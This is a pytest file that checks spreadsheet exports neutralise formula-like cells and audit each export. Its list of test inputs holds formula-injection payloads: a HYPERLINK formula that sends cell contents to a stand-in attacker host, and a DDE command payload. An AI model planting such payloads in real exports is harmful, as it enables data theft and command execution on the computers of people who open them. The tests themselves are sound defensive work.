"""Exports (docs/SECURITY.md): cells that start like a formula are neutralised in .xlsx and .csv."""

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from cases.exports import csv_response, safe_cell, write_csv, write_xlsx, xlsx_response
from cases.models import AuditEvent
from monitoring import rosters

from .downloads import response_bytes

DANGEROUS = [
    '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]
HARMLESS = ["张三", "341522********1237", "a=b", " =not-a-formula-leading-space", ""]


@pytest.fixture
def rows():
    """A sheet as an attacker would fill it: formula-like names and remarks."""
    return [
        [f"行{index}", text, 42, Decimal("12.50"), date(2026, 3, 5)]
        for index, text in enumerate(DANGEROUS + HARMLESS)
    ]


HEADERS = ["序号", "内容", "数量", "金额", "日期"]


@pytest.mark.parametrize("text", DANGEROUS)
def test_safe_cell_prefixes_an_apostrophe(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", [*HARMLESS, None, 42, -5, 3.5, Decimal("-1.5"), date(2026, 1, 1)])
def test_safe_cell_leaves_other_values(value):
    assert safe_cell(value) == value


@pytest.mark.parametrize(
    "neutralise",
    [safe_cell, rosters.safe_text],
    ids=["cases.exports.safe_cell", "monitoring.rosters.safe_text"],
)
@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ('=HYPERLINK("http://x")', '\'=HYPERLINK("http://x")'),
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("+86", "'+86"),
        ("-1", "'-1"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("王伟", "王伟"),
        ("张三", "张三"),
        ("", ""),
        (5, 5),
        (12, 12),
        (None, None),
    ],
)
def test_every_export_path_neutralises_formulas(neutralise, value, expected):
    """The person export (admin), the finance rosters and the findings export all neutralise."""
    assert neutralise(value) == expected


def test_xlsx_cells_are_text_never_formulas(rows):
    buffer = io.BytesIO()
    assert write_xlsx(buffer, HEADERS, rows, text_columns=[1]) == len(rows)
    buffer.seek(0)
    sheet = load_workbook(buffer).active
    values = list(sheet.iter_rows(min_row=2, values_only=True))
    # (XML stores a carriage return as a line feed.)
    assert [row[1] for row in values] == ["'" + text.replace("\r", "\n") for text in DANGEROUS] + [
        text or None for text in HARMLESS
    ]
    for row in sheet.iter_rows(min_row=2):
        assert all(cell.data_type != "f" for cell in row), [c.value for c in row]
    assert values[0][2] == 42 and values[0][3] == 12.5
    assert sheet.cell(row=2, column=2).number_format == "@"


def test_csv_cells_are_neutralised_and_utf8_with_bom(rows):
    response = csv_response("导出.csv", HEADERS, rows)
    body = response.content
    assert body.startswith("\ufeff".encode())
    parsed = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    assert parsed[0] == HEADERS
    contents = [row[1] for row in parsed[1:]]
    assert contents == ["'" + text for text in DANGEROUS] + HARMLESS
    assert not any(
        cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in parsed for cell in row
    )
    assert response["Content-Disposition"].startswith("attachment;")
    assert "utf-8''" in response["Content-Disposition"]
    assert response["Cache-Control"] == "no-store"
    assert response.row_count == len(rows)


def test_write_csv_counts_rows():
    stream = io.StringIO()
    assert write_csv(stream, ["a"], [["=1"], ["x"]]) == 2
    assert stream.getvalue().splitlines() == ["a", "'=1", "x"]


def test_responses_with_a_request_are_audited(rf, db, admin_user, rows):
    request = rf.get("/export/", {"township": "河口镇"}, REMOTE_ADDR="10.2.2.2")
    request.user = admin_user
    response = xlsx_response(
        "发现.xlsx", HEADERS, rows, request=request, label="monitoring.finding"
    )
    assert response.status_code == 200
    # Streamed: the event is written once the last row has gone out.
    assert not AuditEvent.objects.filter(action="export").exists()
    load_workbook(io.BytesIO(response_bytes(response)))
    event = AuditEvent.objects.get(action="export")
    assert event.details == {
        "filters": {"township": "河口镇"},
        "rows": len(rows),
        "format": "xlsx",
    }
    assert event.username == "admin" and event.ip_address == "10.2.2.2"
    csv_response("发现.csv", HEADERS, rows[:2], request=request, label="x", filters={})
    assert AuditEvent.objects.filter(
        action="export", details__format="csv", details__rows=2
    ).exists()
